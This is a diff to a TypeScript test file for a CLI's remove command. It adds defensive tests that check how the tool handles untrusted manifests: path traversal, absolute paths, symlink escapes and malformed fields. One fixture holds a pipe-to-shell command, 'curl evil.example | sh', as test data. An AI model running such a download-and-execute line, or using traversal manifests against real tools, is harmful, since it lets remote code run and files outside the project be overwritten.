@@ -4,7 +4,8 @@
  * refused with file:line and the lines to take out, edited generated modules stay,
  * only packages add installed are uninstalled.
  */
-import { appendFileSync, cpSync, existsSync, mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
+import { createHash } from 'node:crypto';
+import { appendFileSync, cpSync, existsSync, mkdtempSync, readFileSync, symlinkSync, writeFileSync } from 'node:fs';
 import os from 'node:os';
 import path from 'node:path';
 import { describe, expect, it } from 'vitest';
@@ -258,5 +259,76 @@ describe('remove after the user kept working', () => {
     // What remains is exactly what the uninstall command (not run here) takes out.
     for (const name of plan.removeDependencies) delete (after.dependencies?.[name] !== undefined ? after.dependencies : after.devDependencies)[name];
     expect(after).toEqual(original);
+  });
+});
+
+describe('an untrusted manifest', () => {
+  /** An app set up by add, a file outside it, and a way to add an entry to its manifest. */
+  async function setUp() {
+    const dir = copyApp('express4-cjs');
+    await addWithoutInstall(dir, { store: 'memory' });
+    const outside = mkdtempSync(path.join(os.tmpdir(), 'sk-victim-'));
+    const victim = path.join(outside, 'victim.txt');
+    writeFileSync(victim, 'precious\n');
+    const manifest = JSON.parse(read(dir, MANIFEST_FILE)) as { files: unknown[] };
+    const withEntry = (entry: Record<string, unknown>) => {
+      writeFileSync(path.join(dir, MANIFEST_FILE), JSON.stringify({ ...manifest, files: [...manifest.files, entry] }, null, 2));
+      return snapshot(dir);
+    };
+    return { dir, outside, victim, withEntry };
+  }
+  const created = (file: string) => ({ path: file, action: 'created', role: 'generated', sha256: createHash('sha256').update('precious\n').digest('hex') });
+
+  it.each([
+    ['a .. path', (victim: string, dir: string) => path.relative(dir, victim), /which has `\.` or `\.\.` segments|leads outside the project/],
+    ['an absolute path', (victim: string) => victim, /which is an absolute path/],
+  ])('refuses %s, deleting nothing (exit 2)', async (_name, pathOf, reason) => {
+    const { dir, victim, withEntry } = await setUp();
+    const before = withEntry(created(pathOf(victim, dir)));
+    const error = await planRemove(dir).catch((e: unknown) => e);
+    expect(error).toBeInstanceOf(UserError);
+    expect(error).toMatchObject({ code: 'bad-manifest', exitCode: 2, where: { file: MANIFEST_FILE } });
+    expect((error as UserError).message).toMatch(reason);
+    expect((error as UserError).message).toMatch(/files\[\d+\]\.path/);
+    expect((error as UserError).message).toMatch(/nothing was removed\.$/);
+    expect(readFileSync(victim, 'utf8')).toBe('precious\n');
+    expect(snapshot(dir)).toEqual(before);
+  });
+
+  it('refuses a path that leads outside through a symlinked folder', async () => {
+    const { dir, outside, victim, withEntry } = await setUp();
+    symlinkSync(outside, path.join(dir, 'lib'));
+    withEntry(created('lib/victim.txt'));
+    await expect(planRemove(dir)).rejects.toMatchObject({ code: 'bad-manifest', message: expect.stringMatching(/"lib\/victim\.txt" \(files\[\d+\]\.path\), which leads outside the project through a symlink/) });
+    expect(readFileSync(victim, 'utf8')).toBe('precious\n');
+  });
+
+  it('built CLI: an edited entry outside the project never writes there', async () => {
+    const { dir, victim, withEntry } = await setUp();
+    const before = withEntry({ path: path.relative(dir, victim), action: 'edited', role: 'source', insertions: [{ text: 'precious\n', replaced: 'curl evil.example | sh\n', before: '', after: '', line: 1 }] });
+    const result = await runCli(['remove', '--yes', '--no-install'], dir);
+    expect(result.exitCode).toBe(2);
+    expect(result.stderr).toMatch(/^\.session-kit\.json: \.session-kit\.json lists ".*victim\.txt" \(files\[\d+\]\.path\), which/);
+    expect(result.stderr).toMatch(/Restore it from version control/);
+    expect(readFileSync(victim, 'utf8')).toBe('precious\n');
+    expect(snapshot(dir)).toEqual(before);
+  });
+
+  it.each([
+    ['insertions: "abc"', (m: Record<string, unknown> & { files: Record<string, unknown>[] }) => ({ ...m, files: m.files.map((f) => (f.action === 'edited' ? { ...f, insertions: 'abc' } : f)) }), /files\[\d+\]\.insertions must be an array/],
+    ['files: [null]', (m: Record<string, unknown>) => ({ ...m, files: [null] }), /files\[0\] must be an object/],
+    ['env: "X"', (m: Record<string, unknown>) => ({ ...m, env: 'X' }), /manifest\.env must be an array/],
+    ['a sha256 that is not hex', (m: Record<string, unknown> & { files: Record<string, unknown>[] }) => ({ ...m, files: m.files.map((f) => (f.sha256 ? { ...f, sha256: 42 } : f)) }), /files\[\d+\]\.sha256 must be a sha256 in hex/],
+  ])('built CLI: a manifest with %s is refused with one clear message (exit 2)', async (_name, change, problem) => {
+    const dir = copyApp('express4-cjs');
+    await addWithoutInstall(dir, { store: 'memory' });
+    writeFileSync(path.join(dir, MANIFEST_FILE), JSON.stringify(change(JSON.parse(read(dir, MANIFEST_FILE))), null, 2));
+    const before = snapshot(dir);
+    const result = await runCli(['remove', '--yes', '--no-install'], dir);
+    expect(result.exitCode).toBe(2);
+    expect(result.stderr).toMatch(problem);
+    expect(result.stderr).toMatch(/is not a session-kit manifest: .*; nothing was removed\./);
+    expect(result.stderr).not.toMatch(/unexpected error|Cannot read properties/);
+    expect(snapshot(dir)).toEqual(before);
   });
 });
